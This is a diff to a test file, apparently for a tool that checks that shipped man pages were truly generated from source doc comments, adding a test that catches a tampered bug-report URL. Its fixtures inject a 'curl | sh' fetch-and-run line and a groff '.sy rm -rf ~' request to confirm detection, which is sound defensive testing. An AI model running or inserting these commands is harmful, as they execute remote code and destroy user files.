@@ -28,6 +28,7 @@ demo_chan *demo_open(const char *host);
 /**
  * Close a channel and free its buffers
  * \\param[in] chan the channel to close
+ * See https://demo.example.org/docs/channels.html for the protocol
  */
 void demo_close(demo_chan *chan);
 
@@ -38,6 +39,9 @@ const SCRIPT = `#!/usr/bin/perl
 my $MAN_HEADER = ".ad l\\n.TH demo 3 \\"12 March 2020\\"\\n";
 my $MAN_FOOTER = ".SH AUTHOR
 The demo team.
+.SH REPORTING BUGS
+Please report bugs in our tracker at
+https://demo.example.org/bugs/index.html
 .SH REMARKS
 This manpage was automatically generated from the demo source code.
 ";
@@ -89,9 +93,13 @@ Returns demo_chan the open channel, \\%NULL on error
 Close a channel and free its buffers
 \\.br
 \\fBchan\\fR: the channel to close
+See https://demo.example.org/docs/channels.html for the protocol
 .PP
 .SH AUTHOR
 The demo team.
+.SH REPORTING BUGS
+Please report bugs in our tracker at
+https://demo.example.org/bugs/index.html
 .SH REMARKS
 This manpage was automatically generated from the demo source code.
 `;
@@ -109,7 +117,7 @@ describe('man pages a tracked script writes from the doc comments of tracked hea
     const r = await verifyWith(PAGE);
     expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({
       code: 'GENERATED_FROM_SOURCE', severity: 'low',
-      evidence: { how: 'doc-comment-man', source: 'demo/demo.h', generator: 'doc/mkman.pl', inputs: ['Makefile.in:3', 'doc/pages'], files: 1, found: 31, total: 31 },
+      evidence: { how: 'doc-comment-man', source: 'demo/demo.h', generator: 'doc/mkman.pl', inputs: ['Makefile.in:3', 'doc/pages'], files: 1, found: 35, total: 35 },
     });
     expect(findingAt(r.findings, 'doc/man/man3/demo_close.3')).toMatchObject({
       code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'man-alias', source: 'doc/man/man3/demo_open.3', generator: 'demo_open.3' },
@@ -126,9 +134,9 @@ describe('man pages a tracked script writes from the doc comments of tracked hea
       // a sentence the comments lack
       [PAGE.replace('Close a channel and free its buffers\n', 'Close a channel and free its buffers\nAlways run the installer as root first.\n'), 27],
       // a command
-      [PAGE.replace('.SH AUTHOR\n', 'curl -s https://demo.example/fix | sh\n.SH AUTHOR\n'), 30],
+      [PAGE.replace('.SH AUTHOR\n', 'curl -s https://demo.example/fix | sh\n.SH AUTHOR\n'), 31],
       // a request the script never writes (groff's .sy runs a command)
-      [PAGE.replace('.SH AUTHOR\n', '.sy rm -rf ~\n.SH AUTHOR\n'), 30],
+      [PAGE.replace('.SH AUTHOR\n', '.sy rm -rf ~\n.SH AUTHOR\n'), 31],
       // the comments' own words out of order
       [PAGE.replace('Close a channel and free its buffers\n', 'Close a channel and free its buffers\nclose the server to free the open channel\n'), 27, { kind: 'not-a-run' }],
     ] as const) {
@@ -138,6 +146,18 @@ describe('man pages a tracked script writes from the doc comments of tracked hea
       });
       expect(exitCodeOf(r.verdict)).toBe(1);
     }
+  });
+
+  it('tampered twin: the bug-report link moved to another path of the host the sources name, every token theirs, stays high with the URL', async () => {
+    // red team 28: ldns 1.8.3's `http://www.nlnetlabs.nl/bugs/index.html` became `http://www.aarongifford.com/bugs/index.html`
+    // (a host a header names; one break in the run): GENERATED_FROM_SOURCE low, exit 0 while only hosts were checked
+    const page = PAGE.replace('https://demo.example.org/bugs/index.html', 'https://demo.example.org/docs/index.html');
+    const r = await verifyWith(page);
+    expect(findingAt(r.findings, 'doc/man/man3/demo_open.3')).toMatchObject({
+      code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high',
+      evidence: { untracedPage: { generator: 'doc/mkman.pl', line: 35, text: 'https://demo.example.org/docs/index.html', why: { kind: 'url', url: 'https://demo.example.org/docs/index.html' } } },
+    });
+    expect(exitCodeOf(r.verdict)).toBe(1);
   });
 
   it('tampered twins: an alias the page does not name, a list naming a page the tarball lacks stay high', async () => {
